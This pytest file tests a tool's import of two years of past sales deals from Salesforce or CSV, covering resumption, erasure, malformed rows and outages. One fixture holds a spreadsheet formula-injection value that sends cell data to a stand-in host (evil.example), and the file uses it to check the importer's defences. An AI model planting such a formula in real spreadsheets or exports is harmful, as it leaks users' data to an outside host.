"""The years before Countersign come in by one command, from Salesforce or a file, once, wherever it was cut short."""

import json
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot import wiring
from bot.streams.money import Money
from sandbox.salesforce.seed import PAST_DEALS, TWO_YEARS
from sandbox.town import ROOT, Town
from sandbox.wait import until

WAIT_S = 60
HEAD = (
    "id,customer,industry,currency,amount,discount,payment_days,term_months,won,loss_reason,competitor,opened_on,"
    "closed_on,lines,roles,stages"
)
GOOD = (
    "2023-1,Nordkai AG,Logistics,EUR,25000.00,12.5,30,24,yes,,Haulix,2023-01-02,2023-03-04,"
    "FLEET|20|1008.00|12.5|17640.00;ONBOARD|1|7360.00||7360.00,Decision Maker;Influencer,"
    "Proposal|2023-02-01;Closed Won|2023-03-04"
)
FORMULA = '2023-2,"=HYPERLINK(""http://evil.example?""&A1)",Retail,USD,100,,,12,no,Price,,2023-01-02,2023-02-02,,,'
BAD = {
    "amount": "2023-3,A,Retail,EUR,12.345,,30,12,yes,,,2023-01-02,2023-02-02,,,",
    "currency": "2023-4,A,Retail,EURO,12,,30,12,yes,,,2023-01-02,2023-02-02,,,",
    "won": "2023-5,A,Retail,EUR,12,,30,12,perhaps,,,2023-01-02,2023-02-02,,,",
    "closed_on": "2023-6,A,Retail,EUR,12,,30,12,no,,,2023-03-02,2023-02-02,,,",
    "opened_on": "2023-7,A,Retail,EUR,12,,30,12,no,,,2023-02-30,2023-03-02,,,",
    "customer": "2023-8,,Retail,EUR,12,,30,12,no,,,2023-01-02,2023-02-02,,,",
    "lines": "2023-9,A,Retail,EUR,12,,30,12,no,,,2023-01-02,2023-02-02,FLEET|many,,",
    "stages": "2023-10,A,Retail,EUR,12,,30,12,no,,,2023-01-02,2023-02-02,,,Proposal",
    "discount": "2023-11,A,Retail,EUR,12,100.01,30,12,no,,,2023-01-02,2023-02-02,,,",
    "payment_days": "2023-12,A,Retail,EUR,12,,thirty,12,no,,,2023-01-02,2023-02-02,,,",
    "": "2023-13,A,Retail,EUR,12,,30,12,no,,,2023-01-02,2023-02-02,,,,one too many",
}


@pytest.fixture
def town(tmp_path: Path) -> Iterator[Town]:
    made = Town(tmp_path / "town", past=TWO_YEARS)
    made.open()
    yield made
    made.close()


def imported(town: Town, *words: str, code: int = 0) -> dict[str, Any]:
    ran = town.run("history", "import", "--json", *words)
    assert ran.returncode == code, ran.stdout + ran.stderr
    told: dict[str, Any] = json.loads(ran.stdout)
    return told


def past_streams(town: Town) -> int:
    ran = town.run("ledger", "verify", "--json")
    assert ran.returncode == 0, ran.stdout
    return int(json.loads(ran.stdout)["streams"])


def test_two_years_of_deals_come_in_once_with_all_that_salesforce_knows(town: Town) -> None:
    told = imported(town)
    assert (told["read"], told["new"], told["bad"]) == (TWO_YEARS, TWO_YEARS, [])
    closed = [row for row in town.org.records("Opportunity") if row["IsClosed"]]
    assert told["won"] == sum(row["IsWon"] for row in closed)
    silent = [row for row in closed if not row["IsWon"] and not row["Loss_Reason__c"]]
    assert told["missing"]["loss_reason"] == len(silent)
    assert told["missing"]["lines"] == PAST_DEALS and told["missing"]["roles"] > PAST_DEALS
    again = imported(town)
    assert (again["read"], again["same"], again["new"], again["changed"]) == (TWO_YEARS, TWO_YEARS, 0, 0)
    town.org.update("Opportunity", silent[0]["Id"], {"Loss_Reason__c": "Timing"})
    third = imported(town)
    assert (third["changed"], third["same"]) == (1, TWO_YEARS - 1)
    assert past_streams(town) == TWO_YEARS
    _learnt(town)


def _learnt(town: Town) -> None:
    """What a later deal is shown of them."""
    assert town.run("store", "rebuild").returncode == 0
    told = {name.lower(): value for name, value in town.environment().items()}
    store = wiring.store(
        wiring.Settings.model_validate({n: told[n] for n in wiring.Settings.model_fields if n in told})
    )
    with store.snapshot() as tx:
        near = tx.past_deals.nearest("Logistics", Money.parse("80000.00", "EUR"))
        (record,) = tx.past_deals.record("Logistics")
    store.close()
    assert {deal.industry for deal in near} == {"Logistics"}
    assert record.won > 50 and record.lost > 20


def test_killed_in_the_middle_it_goes_on_there_and_nothing_comes_twice(town: Town) -> None:
    cursor = town.folder / "run" / "history.cursor"
    command = town.countersign("history", "import")
    process = subprocess.Popen(command, cwd=ROOT, env=town.environment(), stderr=subprocess.DEVNULL)
    until(cursor.exists, WAIT_S, "the first page")
    process.send_signal(signal.SIGKILL)
    process.wait()
    told = imported(town)
    assert told["read"] == TWO_YEARS - 200
    assert not cursor.exists()
    assert past_streams(town) == TWO_YEARS
    assert imported(town)["same"] == TWO_YEARS


def test_one_that_is_erased_does_not_come_back(town: Town, tmp_path: Path) -> None:
    file = tmp_path / "deals.csv"
    file.write_text(f"{HEAD}\n{GOOD}\n{GOOD.replace('2023-1', '2023-2')}\n")
    assert imported(town, "--csv", str(file))["new"] == 2
    stream = town.run("history", "find", "2023-1").stdout.strip()
    assert town.run("store", "shred", stream, "--reason", "asked for", "--yes").returncode == 0
    again = imported(town, "--csv", str(file))
    assert (again["erased"], again["same"], again["new"]) == (1, 1, 0)
    assert json.loads(town.run("ledger", "verify", "--json").stdout)["problems"] == []
    assert town.run("history", "find", "2023-9").returncode == 1


def test_a_bad_row_is_told_with_its_line_and_field_and_stops_no_other(town: Town, tmp_path: Path) -> None:
    file = tmp_path / "deals.csv"
    file.write_text("\n".join([HEAD, GOOD, *BAD.values(), FORMULA]) + "\n")
    told = imported(town, "--csv", str(file), code=1)
    assert told["new"] == 2
    assert [(bad["place"], bad["field"]) for bad in told["bad"]] == [
        (f"deals.csv:{number}", field) for number, field in enumerate(BAD, 3)
    ]
    assert told["missing"] == {"payment_days": 1, "competitor": 1, "lines": 1, "roles": 1, "stages": 1}
    ran = town.run("history", "import", "--csv", str(file))
    assert ran.returncode == 1
    assert "13 read: 0 new, 0 changed, 2 known already" in ran.stdout
    assert "BAD deals.csv:3 amount: EUR has 2 decimals: '12.345'" in ran.stdout


def test_a_file_without_its_columns_is_no_table(town: Town, tmp_path: Path) -> None:
    file = tmp_path / "deals.csv"
    file.write_text("id,customer\n1,A\n")
    ran = town.run("history", "import", "--csv", str(file))
    assert ran.returncode == 2
    assert "has no column currency, amount, won, opened_on, closed_on" in ran.stderr
    file.write_bytes(b"\xff\xfe\x00id")
    assert town.run("history", "import", "--csv", str(file)).returncode == 2


def test_a_salesforce_that_is_down_is_named_and_nothing_is_lost(town: Town) -> None:
    town.salesforce.stop()
    ran = town.run("history", "import")
    assert ran.returncode == 1
    assert "Salesforce: unreachable" in ran.stderr
    town.salesforce.start()
    assert imported(town)["new"] == TWO_YEARS


def test_doctor_and_the_import_are_the_same_on_postgresql(tmp_path: Path, postgres_database: str) -> None:
    town = Town(tmp_path / "town", database_url=postgres_database)
    town.open()
    try:
        looked = town.run("doctor", "--json")
        (only,) = [f for f in json.loads(looked.stdout)["findings"] if f["status"] == "wrong"]
        assert (looked.returncode, only["check"]) == (1, "database")
        assert "`countersign store migrate`" in only["mend"]
        assert town.run("store", "migrate").returncode == 0
        assert town.run("doctor").returncode == 0
        assert imported(town)["new"] == PAST_DEALS
        assert imported(town)["same"] == PAST_DEALS
    finally:
        town.close()
